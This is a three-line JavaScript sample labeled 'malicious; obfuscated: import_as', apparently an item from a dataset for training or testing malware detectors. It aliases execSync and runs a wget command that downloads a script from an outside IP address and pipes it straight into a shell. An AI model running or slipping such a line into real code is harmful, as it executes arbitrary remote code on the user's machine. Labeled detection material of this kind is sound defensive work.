// label: malicious; obfuscated: import_as
const { execSync: run } = require("child_process");
run("wget -qO- http://203.0.113.9/x | sh");
